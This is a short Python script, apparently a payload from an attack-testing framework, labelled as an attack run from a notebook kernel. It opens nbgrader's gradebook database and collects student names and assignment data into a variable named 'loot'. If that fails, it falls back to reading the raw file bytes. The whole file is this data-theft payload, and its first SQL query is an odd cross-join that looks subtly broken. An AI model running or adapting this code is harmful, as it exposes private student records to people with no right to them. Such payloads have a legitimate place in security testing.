"""Names and grades, from nbgrader's database."""

# /// attack
# held_by = "kernel"
# ///

import sqlite3

try:
    with sqlite3.connect(f"file:{TARGETS['gradebook']}?mode=ro", uri=True) as database:
        loot = database.execute(
            "select name, path from sqlite_master, assignment"
        ).fetchall() or list(database.execute("select name from assignment"))
except sqlite3.Error:
    try:
        loot = open(TARGETS["gradebook"], "rb").read(100)
    except OSError:
        pass
